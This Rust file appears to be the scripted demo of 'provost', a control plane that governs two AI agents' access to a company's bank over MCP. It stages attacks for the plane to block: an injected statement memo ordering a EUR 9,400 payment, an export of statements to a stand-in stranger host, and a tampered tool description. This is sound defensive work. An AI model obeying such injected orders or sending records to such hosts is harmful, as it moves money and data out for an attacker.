//! The chapters, in order. Each does what it tells, and promises what must be seen.

mod end;
mod kill;
mod read;
mod sign;
mod stop;

use super::{
    acme,
    agent::{Agent, Answer, Said, Speaks},
    stage::Stage,
    tell::Teller,
};
use provost_api::{
    Because,
    agent::AgentView,
    credential::CredentialWrite,
    decision::WhyView,
    ledger::LedgerView,
    plan::{Applied, ApplyRequest, PlanRequest, PlanView},
    proposal::{ProposalAnswer, ProposalView},
    system::SystemDraft,
    task::{TaskStart, TaskStarted, TaskView},
};
use provost_bank::{INJECTED_AMOUNT, INJECTED_MEMO};
use provost_cli::{Failure, decision};
use provost_domain::TaskId;
use read::{accounts, bank_pins, describe, has, import, lines, parse, pins, told};
use serde_json::{Map, Value, json};
use std::time::Duration;

/// An agent at work.
pub(super) struct Worker {
    name: &'static str,
    task: TaskId,
    token: String,
    server: String,
    mcp: Agent,
}

/// Tells all chapters.
///
/// # Errors
/// When the story cannot go on: something did not answer at all.
pub(super) async fn tell(stage: &Stage, teller: &mut Teller) -> Result<(), Failure> {
    organisation(stage, teller).await?;
    a_wider_charter(stage, teller).await?;
    let clerk = at_work(stage, teller).await?;
    within_the_charter(stage, teller, &clerk).await?;
    a_person_must_agree(stage, teller, &clerk).await;
    sign::a_person_signs(stage, teller, &clerk).await?;
    the_injection(stage, teller, &clerk).await?;
    let keeper = the_other_agent(stage, teller).await?;
    a_poisoned_tool(stage, teller, &clerk).await?;
    stop::gone_not_dormant(stage, teller, clerk, keeper).await?;
    kill::one_order(stage, teller).await?;
    end::the_banks_own_books(stage, teller).await?;
    end::the_record(stage, teller).await
}

async fn organisation(stage: &Stage, teller: &mut Teller) -> Result<(), Failure> {
    teller.chapter("A company, its bank, and two agents");
    teller.words(
        "Acme is four people, two AI agents and a folder of files that say who may do what. First the key of \
        Acme's bank is sealed in the plane; from here on the plane alone can open it.",
    );
    teller.asks("an administrator seals the bank's key under the name `bank`").await;
    let write =
        CredentialWrite { secret: stage.bank_key.clone(), reason: "the bank's key for Acme".to_owned() };
    let _sealed: Value = stage.plane.put("credentials/bank", &write).await?;
    teller.answers("sealed; it can be used, and not be read again");

    teller.words("Then the plane looks at the bank's tools. What a server says about itself is a hint only; the file in \
        the folder holds what a person made of it, with a fingerprint (pin) of each tool as it was reviewed.");
    let files = acme::files(&stage.bank.url())?;
    teller.asks(&format!("the plane looks at {}", stage.bank.url())).await;
    let draft: SystemDraft = stage.plane.post("imports", &import(stage)?).await?;
    let (seen, reviewed) = (pins(&draft.text), bank_pins(&files));
    let same = seen.iter().filter(|(tool, pin)| reviewed.get(*tool) == Some(*pin)).count();
    teller.answers(&format!(
        "{} tools; {same} are exactly as Acme's file has them reviewed",
        draft.tools.len()
    ));
    let all = !seen.is_empty() && same == seen.len() && seen.len() == reviewed.len();
    teller.promise(
        "The bank's tools are the ones a person reviewed",
        all,
        format!("{same} of {} definitions have the reviewed fingerprint", seen.len()),
    );

    teller.words("Now the files are applied. A plan says beforehand, in words, who gains what.");
    teller.asks("provost plan examples/acme").await;
    let plan: PlanView =
        stage.plane.post("plan", &PlanRequest { files: files.clone(), prune: false }).await?;
    for step in plan.steps.iter().filter(|step| step.kind == "agent") {
        for words in step.words.iter().filter(|words| words.reach == "widens").take(SHOWN_MAX) {
            teller.under(&format!("{} {}", step.key, words.text));
        }
    }
    teller.asks("provost apply examples/acme").await;
    let reason = "the demo's organisation".to_owned();
    let request = ApplyRequest {
        files: files.clone(),
        prune: false,
        reason,
        plan: Some(plan.digest),
        person: None,
        break_glass: false,
    };
    let applied: Applied = stage.plane.post("apply", &request).await?;
    teller.answers(&format!("{} changes, each one recorded", applied.steps.len()));
    let again: PlanView = stage.plane.post("plan", &PlanRequest { files, prune: false }).await?;
    let left = again.steps.iter().filter(|step| step.verb != "keep").count();
    teller.promise(
        "The organisation is what the files say",
        left == 0 && !applied.steps.is_empty(),
        format!("{} changes made; planned again, {left} are left", applied.steps.len()),
    );
    Ok(())
}

async fn a_wider_charter(stage: &Stage, teller: &mut Teller) -> Result<(), Failure> {
    teller.chapter("Somebody wants an agent to do more");
    teller.words("jonas raises the clerk's limit from EUR 500 to EUR 5,000 in its file. A charter is what an agent may do, so \
        changing it is changing an identity: nobody does that alone.");
    let mut files = acme::files(&stage.bank.url())?;
    for file in &mut files {
        file.text = file.text.replace("args.amount = { max = 500.00 }", "args.amount = { max = 5000.00 }");
    }
    teller.asks("provost apply examples/acme --as jonas").await;
    let request = ApplyRequest {
        files,
        prune: false,
        reason: "the invoices are larger now".to_owned(),
        plan: None,
        person: "jonas".parse().ok(),
        break_glass: false,
    };
    let applied: Applied = stage.plane.post("apply", &request).await?;
    let Some(proposal) = applied.proposal else {
        teller.answers("applied");
        teller.promise(
            "A wider charter waits for somebody who did not write it",
            false,
            "it was applied at once",
        );
        return Ok(());
    };
    let id = &proposal.summary.id;
    for words in proposal.steps.iter().flat_map(|step| &step.words) {
        teller.under(&words.text);
    }
    let asked: Vec<String> = proposal.missing.iter().map(|missing| missing.gate.clone()).collect();
    teller.answers(&format!("{id} waits for the {}; nothing has changed", asked.join(", ")));
    teller.asks(&format!("provost proposal approve {id} --as maria, typed by whoever proposed it")).await;
    let yes = ProposalAnswer { person: "maria".parse().ok(), ..Default::default() };
    let relayed: Result<ProposalView, Failure> =
        stage.plane.post(&format!("proposals/{id}/approve"), &yes).await;
    let refused = relayed.is_err();
    teller.answers(match refused {
        true => "refused: a yes to this takes maria's passkey; her name in somebody's mouth is nothing",
        false => "taken",
    });
    let agent: AgentView = stage.plane.get("agents/invoice-clerk").await?;
    teller.promise(
        "A wider charter waits for somebody who did not write it",
        refused && agent.summary.revision == 1,
        format!("{}, charter revision {}", proposal.summary.status, agent.summary.revision),
    );
    let why = Because { reason: "the demo goes on with the charter as it is".to_owned() };
    let _over: ProposalView = stage.plane.post(&format!("proposals/{id}/withdraw"), &why).await?;
    Ok(())
}

async fn at_work(stage: &Stage, teller: &mut Teller) -> Result<Worker, Failure> {
    teller.chapter("An agent goes to work, and sees less than there is");
    let agent: AgentView = stage.plane.get("agents/invoice-clerk").await?;
    teller.words(&format!(
        "invoice-clerk belongs to {}: {}. Its authority is a task: a purpose, a person who asked, an end.",
        agent.summary.owner, agent.summary.purpose
    ));
    let clerk = go_to_work(
        stage,
        teller,
        "invoice-clerk",
        "jonas",
        "Pay the open supplier invoices of November",
        Speaks::Modern,
    )
    .await?;
    teller.asks("invoice-clerk lists the tools of the bank").await;
    let seen = clerk.mcp.tools().await?;
    teller.answers(&format!("{} (MCP {})", seen.join(", "), clerk.mcp.revision()));
    teller.words("The bank has nine. What its charter does not grant, the agent is not even shown.");
    let wanted = ["get_statement", "list_accounts", "list_payees", "transfer"];
    teller.promise(
        "An agent sees only the tools it may use",
        seen == wanted,
        format!("{} of 9: {}", seen.len(), seen.join(", ")),
    );

    teller
        .words("Could it go around the plane? It knows where the bank is, and tries with the token it has.");
    teller.asks(&format!("invoice-clerk connects to {} directly", stage.bank.url())).await;
    let around = Agent::connect(&stage.bank.url(), &clerk.token, Speaks::Modern).await;
    let refused = around.is_err();
    teller.answers(match &around {
        Ok(_connected) => "the bank lets it in",
        Err(_refused) => "the bank turns it away: that token is not the bank's key",
    });
    teller.promise(
        "The agent has nothing that opens the bank",
        refused,
        if refused { "the bank refused the agent's token" } else { "the bank took the agent's token" },
    );
    Ok(clerk)
}

async fn within_the_charter(stage: &Stage, teller: &mut Teller, clerk: &Worker) -> Result<(), Failure> {
    teller.chapter("What the charter grants just works");
    teller.words("Reading the accounts is granted. The plane decides, writes the decision down, and only then asks the \
        bank, with the key the agent never had.");
    let answer = call(teller, clerk, "list_accounts", json!({})).await;
    teller.answered(&answer, accounts);
    let done = matches!(answer.said, Said::Done(_));
    let calls = stage.books().calls("list_accounts");
    teller.promise(
        "A granted call reaches the bank",
        done && calls == 1,
        format!("answered; the bank counted {calls} call"),
    );
    let decisions: TaskView = stage.plane.get(&format!("tasks/{}", clerk.task)).await?;
    let recorded = decisions
        .decisions
        .iter()
        .any(|decision| decision.tool == "bank/list_accounts" && decision.outcome == "success");
    teller.promise(
        "Every call is on record with what came of it",
        recorded,
        if recorded {
            "the decision and its outcome `success` are there"
        } else {
            "the record lacks the call"
        },
    );
    Ok(())
}

async fn a_person_must_agree(stage: &Stage, teller: &mut Teller, clerk: &Worker) {
    teller.chapter("Moving money waits for a person");
    teller.words("EUR 120 to a known supplier is within the charter. But it is money, in production: Acme's plane holds \
        every such call until the agent's owner agrees. The call can be asked for under an id that stays the same.");
    let payment = json!({"from_account": "operations", "payee": "Kantoor Zuid BV", "amount": 120.00, "reference": "order 55120"});
    let first = call(teller, clerk, "transfer", payment.clone()).await;
    teller.answered(&first, |_| String::new());
    teller.words("It tries again, as agents do:");
    let second = call(teller, clerk, "transfer", payment).await;
    let (one, two) = (told(&first), told(&second));
    teller.answers(&format!(
        "{}, again under {}",
        describe(&second),
        two.approval.as_deref().unwrap_or("no approval id")
    ));
    let held = one.verdict == "hold" && has(&one, "guardrail/effects-production");
    teller.promise("A payment within its limits is held for the owner", held, describe(&first));
    let stable = one.approval.is_some() && one.approval == two.approval && one.decision != two.decision;
    teller.promise(
        "The same request keeps the same approval id",
        stable,
        format!("two decisions, one {}", one.approval.as_deref().unwrap_or("approval id missing")),
    );
    let reached = stage.books().calls("transfer");
    teller.promise(
        "A held call does not reach the bank",
        reached == 0,
        format!("the bank counted {reached} transfers"),
    );
}

async fn the_injection(stage: &Stage, teller: &mut Teller, clerk: &Worker) -> Result<(), Failure> {
    teller.chapter("A stranger gives the agent an order");
    teller.words("To match invoices, invoice-clerk reads the statement. Anybody who pays one cent can write a line into it.");
    let answer =
        call(teller, clerk, "get_statement", json!({"account": "operations", "month": "2026-11"})).await;
    teller.answered(&answer, |value| format!("{} lines; one of them reads:", lines(value)));
    teller.page(&provost_cli::out::wrapped(INJECTED_MEMO, 70, ""));
    let carries = matches!(&answer.said, Said::Done(value) if value.to_string().contains("BALTIC CLEARING") || value.to_string().contains("SETTLEMENT-77"));
    let task: TaskView = stage.plane.get(&format!("tasks/{}", clerk.task)).await?;
    teller.words(&format!(
        "The plane does not read memos; it knows where they come from. The task now carries: {}.",
        task.labels.join(", ")
    ));
    let labelled =
        ["confidential", "untrusted"].iter().all(|label| task.labels.iter().any(|have| have.contains(label)));
    teller.promise(
        "Reading strangers' text marks the task for good",
        carries && labelled,
        format!("labels: {}", task.labels.join(", ")),
    );

    teller.words("Say the model falls for it and does as it was told:");
    let order = json!({"from_account": "operations", "payee": "Baltic Clearing UAB", "amount": INJECTED_AMOUNT, "reference": "SETTLEMENT-77"});
    let answer = call(teller, clerk, "transfer", order).await;
    teller.answered(&answer, |_| String::new());
    let told = told(&answer);
    let limited = told.verdict == "deny" && told.reasons.iter().any(|(policy, _)| policy.contains("amount"));
    teller.promise("The stranger's EUR 9,400 are refused, because of the amount", limited, describe(&answer));

    teller.words("Every refusal can be asked why. This is `provost why`, with the decision made again from its record:");
    teller.asks(&format!("provost why {}", told.decision)).await;
    settled(stage).await?;
    teller.remember(&told.decision);
    let why: WhyView = stage.plane.get(&format!("decisions/{}/why", told.decision)).await?;
    teller.page(&decision::story(&why.decision, Some(&why), Some(&task), teller.page_style()));
    teller.promise(
        "A decision can be made again from its record",
        why.same,
        if why.same { "the same, bit by bit".to_owned() } else { why.differences.join("; ") },
    );
    Ok(())
}

async fn the_other_agent(stage: &Stage, teller: &mut Teller) -> Result<Worker, Failure> {
    teller.chapter("The other agent, and data on its way out");
    teller.words(
        "bookkeeper may read and bring statements to Acme's archive. Nobody ever granted it a payment.",
    );
    let keeper = go_to_work(
        stage,
        teller,
        "bookkeeper",
        "jonas",
        "Bring the November statements to the archive",
        Speaks::Legacy,
    )
    .await?;
    let payment = json!({"from_account": "operations", "payee": "Kantoor Zuid BV", "amount": 1.00, "reference": "a try"});
    let answer = call(teller, &keeper, "transfer", payment).await;
    teller.answered(&answer, |_| String::new());
    teller.promise("What no charter grants is refused", told(&answer).verdict == "deny", describe(&answer));

    teller.words(
        "It reads the statement, memo and all, and then wants to send statements out: to a stranger, and to \
        Acme's own archive.",
    );
    let read = call(teller, &keeper, "get_statement", json!({"account": "operations"})).await;
    teller.answered(&read, |value| format!("{} lines", lines(value)));
    let out = call(
        teller,
        &keeper,
        "export_statements",
        json!({"account": "operations", "destination": "https://drop.baltic-clearing.example/in"}),
    )
    .await;
    teller.answered(&out, |_| String::new());
    teller.promise("Statements do not go to a stranger", told(&out).verdict == "deny", describe(&out));
    let home = call(
        teller,
        &keeper,
        "export_statements",
        json!({"account": "operations", "destination": "https://archive.acme.example/2026-11"}),
    )
    .await;
    teller.answered(&home, |_| String::new());
    teller.words("Even the way home waits: this task has read a stranger's words, and nobody who asked for it named that \
        address. Where an argument comes from is known to the plane, whatever the model believes.");
    let steered = told(&home).verdict == "hold" && has(&told(&home), "guardrail/steered-untrusted");
    teller.promise(
        "After reading strangers' words, an address that nobody asked for is held",
        steered,
        describe(&home),
    );
    Ok(keeper)
}

async fn a_poisoned_tool(stage: &Stage, teller: &mut Teller, clerk: &Worker) -> Result<(), Failure> {
    teller.chapter("The bank's server is tampered with");
    teller.words("invoice-clerk looks up whom it may pay. That works as it always did:");
    let before = call(teller, clerk, "list_payees", json!({})).await;
    teller.answered(&before, |value| {
        format!("{} payees", value.get("payees").and_then(Value::as_array).map_or(0, Vec::len))
    });
    teller.words(
        "Somebody breaks into the bank's server and slips an order into the description of list_payees. A \
        description is an instruction to whoever reads it.",
    );
    stage
        .books()
        .poison_tool("list_payees")
        .map_err(|error| Failure::new("the bank cannot be tampered with").because(error))?;
    let seen = clerk.mcp.tools().await?;
    let hidden = !seen.iter().any(|tool| tool == "list_payees");
    let answer = call(teller, clerk, "list_payees", json!({})).await;
    teller.answered(&answer, |_| String::new());
    let refused = told(&answer).verdict == "deny" && has(&told(&answer), "guardrail/tool-pinned");
    teller.promise(
        "A tool that changed after its review is refused and hidden",
        refused && hidden,
        format!("{}; {}", describe(&answer), if hidden { "no longer listed" } else { "still listed" }),
    );

    teller.words(
        "A person looks at what changed, does not like it, and calls the bank. The bank takes it back:",
    );
    teller.asks("provost system repin bank").await;
    let repin: provost_api::system::RepinPlan = stage.plane.post("systems/bank/repin", &json!({})).await?;
    let changed: Vec<_> = repin.changed.iter().map(ToString::to_string).collect();
    teller.answers(&format!(
        "changed since the review: {}; a file with the new pin lies ready for review, and is not applied",
        changed.join(", ")
    ));
    stage.books().restore_tools();
    let _seen_again = clerk.mcp.tools().await?;
    let after = call(teller, clerk, "list_payees", json!({})).await;
    teller.answered(&after, |_| "the tool is the reviewed one again".to_owned());
    let named = changed == ["list_payees"];
    teller.promise(
        "The change is named, and the reviewed tool works again",
        named && matches!(after.said, Said::Done(_)),
        format!("named: {}; then {}", changed.join(", "), describe(&after)),
    );
    Ok(())
}

/// Starts a task and connects an MCP client with its token.
async fn go_to_work(
    stage: &Stage,
    teller: &Teller,
    name: &'static str,
    requester: &str,
    purpose: &str,
    speaks: Speaks,
) -> Result<Worker, Failure> {
    teller.asks(&format!("provost task start {name} --requester {requester} --purpose \"{purpose}\"")).await;
    let started = start(stage, name, requester, purpose).await?;
    teller.answers(&format!(
        "{}, until {}; a token for {}",
        started.task.id,
        provost_cli::when::local(started.task.expires),
        started.resource
    ));
    let server = format!("{}/mcp/bank", stage.url());
    let mcp = Agent::connect(&server, &started.token, speaks).await;
    let mcp = mcp.map_err(|why| Failure::new(format!("{name} cannot connect to the plane")).because(why))?;
    Ok(Worker { name, task: started.task.id, token: started.token, server, mcp })
}

async fn start(stage: &Stage, name: &str, requester: &str, purpose: &str) -> Result<TaskStarted, Failure> {
    let wanted = TaskStart {
        bill: None,
        agent: parse(name)?,
        purpose: purpose.to_owned(),
        requester: Some(parse(requester)?),
        inputs: Default::default(),
        duration: None,
        scope: None,
        system: None,
    };
    stage.plane.post("tasks", &wanted).await
}

/// One tool call, told and made.
async fn call(teller: &Teller, worker: &Worker, tool: &'static str, args: Value) -> Answer {
    let args = match args {
        Value::Object(args) => args,
        _ => Map::new(),
    };
    teller.calls(worker.name, tool, &args).await;
    worker.mcp.call(tool, args).await
}

/// Waits until no record waits for the tree any more; that takes a fraction of a second.
async fn settled(stage: &Stage) -> Result<LedgerView, Failure> {
    for _look in 0..SETTLE_LOOKS_MAX {
        let head: LedgerView = stage.plane.get("ledger").await?;
        if head.waiting == 0 && head.size > 0 {
            return Ok(head);
        }
        tokio::time::sleep(SETTLE_EVERY).await;
    }
    Err(Failure::new("the ledger does not catch up with the journal"))
}

const SETTLE_LOOKS_MAX: usize = 100;
const SETTLE_EVERY: Duration = Duration::from_millis(50);
const SHOWN_MAX: usize = 4;
